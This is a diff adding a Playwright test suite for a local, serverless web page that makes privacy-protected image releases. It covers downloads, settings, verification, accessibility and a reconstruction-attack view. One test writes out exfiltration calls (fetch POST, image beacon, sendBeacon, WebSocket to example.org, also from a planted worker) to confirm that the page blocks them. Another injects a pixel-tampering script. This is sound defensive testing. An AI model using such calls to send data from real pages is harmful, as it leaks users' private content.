@@ -1,0 +1,259 @@
+"""The page in Chromium, as a person uses it: from a file, without any server."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+from PIL import Image
+
+from ldp_slicing import Card, Plan
+from ldp_slicing.png import read_release_png
+from ldp_slicing.storage import LocalStorage
+from ldp_slicing.verify import verify
+from tests.web.browser import chromium, why_not
+from tests.web.expected import VECTORS, check_answer
+from tests.web.node import WEB
+
+playwright = pytest.importorskip("playwright.sync_api")
+expect = playwright.expect
+pytestmark = pytest.mark.skipif(bool(why_not()), reason=why_not())
+
+ROOT = WEB.parent
+PAGES = ROOT / "src" / "ldp_slicing" / "studio" / "page"
+PORTRAIT = ROOT / "examples" / "astronaut.jpg"
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with chromium() as found:
+        yield found
+
+
+@pytest.fixture
+def page(browser: Any) -> Iterator[Any]:
+    """The page, with everything that it logged or requested."""
+    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 900})
+    one = context.new_page()
+    one.requests, one.problems = [], []
+    one.on("request", lambda request: one.requests.append(request.url))
+    one.on("console", lambda message: one.problems.append(message.text) if message.type == "error" else None)
+    one.on("pageerror", lambda error: one.problems.append(str(error)))
+    one.goto((PAGES / "studio.html").as_uri())
+    one.wait_for_selector("html[data-ready]")
+    yield one
+    context.close()
+
+
+def open_images(page: Any, *paths: Path) -> None:
+    page.set_input_files("#files", [str(path) for path in paths])
+    expect(page.locator("#planes figure")).to_have_count(24, timeout=60_000)
+    expect(page.locator("#status")).to_have_text("", timeout=60_000)
+
+
+def download(page: Any, button: str, count: int) -> dict[str, bytes]:
+    found: list[Any] = []
+    page.on("download", lambda one: found.append(one))
+    page.click(button)
+    expect(page.locator("#taken")).to_contain_text("Downloaded", timeout=60_000)
+    while len(found) < count:
+        page.wait_for_timeout(50)
+    return {one.suggested_filename: Path(one.path()).read_bytes() for one in found}
+
+
+def test_page_is_one_small_file() -> None:
+    for name in ("studio.html", "collector.html"):
+        assert (PAGES / name).stat().st_size <= 150_000
+
+
+def test_a_release_is_downloaded_with_its_card(page: Any, tmp_path: Path) -> None:
+    open_images(page, PORTRAIT)
+    expect(page.locator("#risk")).to_contain_text("re-identified")
+    one = download(page, "#download", 2)
+    two = download(page, "#download", 2)
+    card = Card.from_json(one["release.png.card.json"])
+    (statement,) = card.statements
+    assert (statement.plan, statement.width, statement.height) == (Plan.paper(20.0), (512, 512), (512, 512))
+    (tmp_path / "release.png").write_bytes(one["release.png"])
+    pixels, extras = read_release_png(one["release.png"], statement.plan)
+    assert (pixels.shape, extras) == ((512, 512, 3), [])
+    with Image.open(PORTRAIT) as source:
+        assert np.mean(pixels == np.asarray(source)) < 0.1
+    assert one["release.png"] != two["release.png"], "each download has a fresh key"
+    expect(page.locator("#taken")).to_contain_text("2 releases made on this page")
+    expect(page.locator("#taken")).to_contain_text("costs 2 times its budget")
+    assert page.problems == []
+    assert all(url.startswith(("file:", "blob:", "data:")) for url in page.requests)
+
+
+def test_settings_change_the_release_and_the_preview_keeps_its_mask(page: Any) -> None:
+    open_images(page, PORTRAIT)
+    before = layer(page)
+    page.select_option("#size", "112")
+    page.select_option("#plan", "Y7+Y4+Cb7+Cr7")
+    page.fill("#epsilon", "5.2")
+    expect(page.locator("#facts")).to_contain_text("released as 112 x 112", timeout=30_000)
+    expect(page.locator("#planes figure.dropped")).to_have_count(20, timeout=30_000)
+    assert layer(page) != before
+    page.select_option("#preset", "paper")
+    expect(page.locator("#facts")).to_contain_text("released as 512 x 512", timeout=30_000)
+    expect(page.locator("#planes figure.dropped")).to_have_count(0, timeout=30_000)
+    assert layer(page) == before, "the same image and settings have the same preview"
+
+
+def layer(page: Any) -> str:
+    pixels = page.evaluate(
+        """() => { const canvas = document.getElementById("layer-release");
+        return Array.from(canvas.getContext("2d").getImageData(0, 0, canvas.width, 80).data) }"""
+    )
+    return hashlib.sha256(bytes(pixels)).hexdigest()
+
+
+def test_a_folder_is_downloaded_that_verify_accepts(page: Any, tmp_path: Path) -> None:
+    Image.fromarray(np.arange(90 * 70 * 3).reshape(70, 90, 3).astype(np.uint8)).save(tmp_path / "small.png")
+    open_images(page, PORTRAIT, tmp_path / "small.png")
+    page.select_option("#size", "112")
+    expect(page.locator("#facts")).to_contain_text("released as 112 x 112", timeout=30_000)
+    content = download(page, "#download-all", 1)["releases.zip"]
+    zipfile.ZipFile(io.BytesIO(content)).extractall(tmp_path / "folder")
+    report = verify(LocalStorage(tmp_path / "folder"))
+    assert (report.problems, report.releases) == ([], 2)
+
+
+def test_the_source_is_what_python_decodes(page: Any, tmp_path: Path) -> None:
+    """Without pruning and almost without noise, a release shows what the browser decoded."""
+    with Image.open(PORTRAIT) as image:
+        image.crop((0, 0, 101, 67)).save(tmp_path / "part.png")
+        image.crop((0, 0, 101, 67)).save(tmp_path / "part.jpg", quality=90)
+    for name in ("part.png", "part.jpg"):
+        page.reload()
+        page.wait_for_selector("html[data-ready]")
+        open_images(page, tmp_path / name)
+        page.select_option("#prune", "")
+        page.fill("#epsilon", "1000")
+        expect(page.locator("#remark")).to_contain_text("almost never changes", timeout=30_000)
+        with Image.open(tmp_path / name) as image:
+            expected = np.asarray(image.convert("RGB")).astype(int)
+        pixels, _ = read_release_png(download(page, "#download", 2)["release.png"])
+        assert np.mean(np.abs(pixels.astype(int) - expected) <= 2) > 0.99, name
+
+
+def test_nothing_can_be_sent_by_page_or_worker(page: Any) -> None:
+    sent = "fetch('https://example.org/', {method: 'POST', body: 'source'}).then(() => 'sent', () => 'blocked')"
+    assert page.evaluate(f"() => {sent}") == "blocked"
+    worker = f"{sent}.then((answer) => postMessage(answer))"
+    planted = """(code) => new Promise((resolve) => {
+        const worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
+        worker.onmessage = (event) => resolve(event.data);
+    })"""
+    assert page.evaluate(planted, worker) == "blocked"
+    for code in (
+        "new Image().src = 'https://example.org/?source'",
+        "navigator.sendBeacon('https://example.org/', 'source')",
+        "new WebSocket('wss://example.org/')",
+    ):
+        page.evaluate(f"() => {{ try {{ {code} }} catch (error) {{}} }}")
+    assert page.problems, "the browser reports what it blocked"
+    assert all("example.org" not in url or "blocked" in " ".join(page.problems).lower() for url in page.requests)
+
+
+def test_a_browser_that_falsifies_pixels_is_refused(browser: Any) -> None:
+    context = browser.new_context()
+    context.add_init_script(
+        """const original = CanvasRenderingContext2D.prototype.getImageData;
+        CanvasRenderingContext2D.prototype.getImageData = function (...rest) {
+            const image = original.apply(this, rest); image.data[8] ^= 1; return image; }"""
+    )
+    page = context.new_page()
+    page.goto((PAGES / "studio.html").as_uri())
+    page.set_input_files("#files", str(PORTRAIT))
+    expect(page.locator("#empty-problem")).to_contain_text("this browser changes the pixels")
+    expect(page.locator("#studio")).to_be_hidden()
+    context.close()
+
+
+@pytest.mark.parametrize("problem", ["not an image", "transparent"])
+def test_files_that_cannot_be_released(page: Any, tmp_path: Path, problem: str) -> None:
+    path = tmp_path / "file.png"
+    if problem == "transparent":
+        Image.new("RGBA", (8, 8), (1, 2, 3, 100)).save(path)
+    else:
+        path.write_text("hello")
+    page.set_input_files("#files", str(path))
+    expect(page.locator("#empty-problem")).to_contain_text("file.png")
+    expect(page.locator("#studio")).to_be_hidden()
+
+
+def test_camera(page: Any) -> None:
+    page.click("#camera")
+    expect(page.locator("#video")).to_be_visible()
+    page.wait_for_timeout(500)
+    page.click("#shoot")
+    expect(page.locator("#planes figure")).to_have_count(24, timeout=30_000)
+
+
+def test_vectors_tables_and_aes(browser: Any, served: str) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{served}/test/browser.html")
+    expect(page).to_have_title("ready")
+    check_answer(page.evaluate("(content) => check(content)", VECTORS))
+    context.close()
+
+
+AXE = WEB / "node_modules" / "axe-core" / "axe.min.js"
+
+
+@pytest.mark.skipif(not AXE.is_file(), reason="axe-core is not installed; `npm install` in web/ brings it")
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+def test_axe_finds_no_violation(browser: Any, scheme: Any, width: int) -> None:
+    # axe runs as a script, which the page's policy forbids to anybody but the page
+    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme, bypass_csp=True)
+    page = context.new_page()
+    page.goto((PAGES / "studio.html").as_uri())
+    page.wait_for_selector("html[data-ready]")
+    page.add_script_tag(path=str(AXE))
+    for is_open in (False, True):
+        if is_open:
+            open_images(page, PORTRAIT)
+            for summary in page.locator("summary").all():
+                summary.click()
+        found = page.evaluate("() => axe.run()")["violations"]
+        assert [(one["id"], [node["html"] for node in one["nodes"]]) for one in found] == []
+        overflow = page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert overflow <= 0, "the page must not scroll sideways"
+    context.close()
+
+
+def test_the_keyboard_is_enough(page: Any) -> None:
+    open_images(page, PORTRAIT)
+    page.focus("#divider-two")
+    before = page.evaluate("() => getComputedStyle(document.getElementById('stage')).getPropertyValue('--two')")
+    page.keyboard.press("ArrowLeft")
+    after = page.evaluate("() => getComputedStyle(document.getElementById('stage')).getPropertyValue('--two')")
+    assert (before, after) == ("66%", "65%")
+    page.focus("#epsilon-slider")
+    page.keyboard.press("Home")
+    expect(page.locator("#epsilon")).to_have_value("0.5")
+    expect(page.locator("#promise")).to_contain_text("epsilon 0.5 per pixel", timeout=30_000)
+
+
+def test_attack_view(page: Any, tmp_path: Path) -> None:
+    lab = pytest.importorskip("ldp_slicing.lab.page_network")
+    lab.export_network(
+        lab.PageNetwork().eval(), tmp_path / "n", name="test", about="untrained", licence="none", side=112
+    )
+    open_images(page, PORTRAIT)
+    page.set_input_files("#network", str(tmp_path / "n"))
+    expect(page.locator("#attack-status")).to_contain_text("The network test: untrained", timeout=30_000)
+    expect(page.locator("#attack-rebuilt")).to_be_visible(timeout=30_000)
+    assert page.locator("#attack-rebuilt").get_attribute("width") == "112"
+    page.set_input_files("#network", str(PORTRAIT))
+    expect(page.locator("#attack-status")).to_contain_text("is not a network", timeout=30_000)
